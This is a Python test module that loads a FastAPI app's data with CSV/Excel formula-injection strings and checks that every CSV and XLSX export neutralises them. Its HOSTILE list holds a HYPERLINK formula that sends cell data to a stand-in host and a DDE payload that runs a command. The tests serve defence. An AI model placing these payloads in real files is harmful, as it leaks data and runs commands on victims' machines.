"""Names and words that a spreadsheet would run, through every file that leaves the server."""

import csv
import io
import re
import zipfile
from collections.abc import Iterator
from datetime import date

import openpyxl
import polars as pl
import pytest
from fastapi.testclient import TestClient

from data.advised import DISMISSED, Advised, Answer
from data.audit import Audit
from data.chain import Entry
from data.users import Users
from tests import drawn
from tests.app.advice_world import world
from tests.published import app_on, visit

HOSTILE = (
    "=HYPERLINK(\"http://198.51.100.7/?\"&A1;\"x\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
    "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "<r><t>=1+1</t></r>", 'a";=1+1;"',
)  # fmt: skip
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
NUMBER = re.compile(r"[-+]?[\d\s.,]+(?:[eE][-+]?\d+)?%?")
SLOW = "\t=1+1"  # the agency for which a rule fires
AGENCIES = {"Lille": SLOW, "Metz": HOSTILE[0], "Nice": HOSTILE[1], "Lyon": HOSTILE[2]}
FILES = {
    "cases": "/export/cases.{kind}",
    "selection": "/export/{kind}",
    "card": "/export/{kind}?view=production-by-agency",
    "rules": "/export/rules/{kind}",
    "audit": "/export/audit/{kind}",
}


@pytest.fixture(scope="module")
def here(tmp_path_factory: pytest.TempPathFactory) -> Iterator[TestClient]:
    """A server whose every name, reason, motive and user is hostile."""
    home = tmp_path_factory.mktemp("harmless") / "home"
    frame = world(date(2026, 6, 30))
    words = [HOSTILE[n % len(HOSTILE)] for n in range(frame.height)]
    ids = pl.Series("case_id", [f"{word}{n}" for n, word in enumerate(words)])
    others = (pl.Series(name, words) for name in ("agent", "case_type", "return_reason"))
    drawn.published(home, frame.with_columns(ids, *others, pl.col("agency").replace(AGENCIES)), fte=10.0)
    advised, users, audit = Advised(home), Users(home), Audit(home)
    for n, word in enumerate(HOSTILE):
        audit.record(Entry("case.viewed", word, purpose=word, details={word: word}))
        users.add(f"user{n}", ["manager"], "", word)
        audit.record(Entry("case.viewed", f"user{n}"))
    given = Answer(
        HOSTILE[1], "reinforce", SLOW, "2026-06", DISMISSED, "x", reason="other", motive=HOSTILE[0]
    )
    advised.record(given)
    for store in (advised, users, audit):
        store.close()
    with visit(app_on(home)) as place:
        yield place


def texts(content: bytes, kind: str) -> list[str]:
    """Every cell of the file that is text."""
    if kind == "csv":
        lines = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";")
        return [cell for line in lines for cell in line if not NUMBER.fullmatch(cell)]
    book = openpyxl.load_workbook(io.BytesIO(content))
    cells = (cell for page in book for row in page.iter_rows() for cell in row)
    return [cell.value for cell in cells if isinstance(cell.value, str)]


@pytest.mark.fault
@pytest.mark.parametrize("kind", ["csv", "xlsx"])
@pytest.mark.parametrize("name", FILES)
def test_no_cell_of_a_file_begins_as_a_formula(here: TestClient, name: str, kind: str) -> None:
    answer = here.get(FILES[name].format(kind=kind))
    assert answer.status_code == 200, answer.text
    found = texts(answer.content, kind)
    assert any("1+1" in text for text in found), "nothing hostile is in the file"
    assert [text for text in found if text.startswith(STARTS)] == []


@pytest.mark.fault
@pytest.mark.parametrize("name", FILES)
def test_no_workbook_holds_a_formula_or_a_link(here: TestClient, name: str) -> None:
    content = here.get(FILES[name].format(kind="xlsx")).content
    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        pages = {each: parts.read(each).decode() for each in parts.namelist() if each.endswith(".xml")}
    assert any("/worksheets/" in each for each in pages)
    assert [each for each, page in pages.items() if re.search(r"<f[ >]|<hyperlink|<ddeLink", page)] == []
